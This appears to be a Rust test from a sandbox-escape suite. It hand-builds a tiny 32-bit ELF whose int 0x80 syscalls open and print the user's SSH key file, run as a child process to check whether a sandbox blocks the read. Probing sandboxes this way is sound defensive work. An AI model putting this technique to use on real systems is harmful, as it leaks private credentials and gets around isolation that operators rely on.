//! A program of 32-bit machine code, put together here: opens a file, reads it, writes it to standard output, ends.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

const BASE: u32 = 0x0804_8000;
const CODE: u32 = 0x54;
const PATH: u32 = 0x200;
const BUFFER: u32 = 0x2000;

fn main() {
    let program = trick::out_dir().join("old");
    fs::write(&program, elf(trick::c(trick::ssh_key()).as_bytes_with_nul())).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    if Command::new(program).output().is_ok_and(|output| trick::is_canary(&output.stdout)) {
        trick::won("child");
    }
}

fn elf(path: &[u8]) -> Vec<u8> {
    let mut file = vec![0x7f, b'E', b'L', b'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    file.extend([2_u16, 3].map(u16::to_le_bytes).concat());
    file.extend([1, BASE + CODE, 0x34, 0, 0].map(u32::to_le_bytes).concat());
    file.extend([0x34_u16, 0x20, 1, 0, 0, 0].map(u16::to_le_bytes).concat());
    // One segment: the file, and room behind it.
    file.extend([1, 0, BASE, BASE, 0x1000, 0x4000, 7, 0x1000].map(u32::to_le_bytes).concat());
    let load = |register: u8, value: u32| [&[0xb8 + register][..], &value.to_le_bytes()].concat();
    let (eax, ecx, edx, ebx) = (0, 1, 2, 3);
    let gate = vec![0xcd, 0x80];
    let from_eax = |to: u8| vec![0x89, 0xc0 | to];
    let code = [
        [load(eax, 5), load(ebx, BASE + PATH), load(ecx, 0), gate.clone()].concat(),
        [from_eax(ebx), load(eax, 3), load(ecx, BASE + BUFFER), load(edx, 512), gate.clone()].concat(),
        [from_eax(edx), load(eax, 4), load(ebx, 1), load(ecx, BASE + BUFFER), gate.clone()].concat(),
        // Twice: whoever is refused its end does not run on into nothing.
        [load(eax, 1), load(ebx, 0), gate, vec![0x0f, 0x0b]].concat(),
    ];
    file.extend(code.concat());
    file.resize(PATH as usize, 0);
    file.extend(path);
    file.resize(0x1000, 0);
    file
}
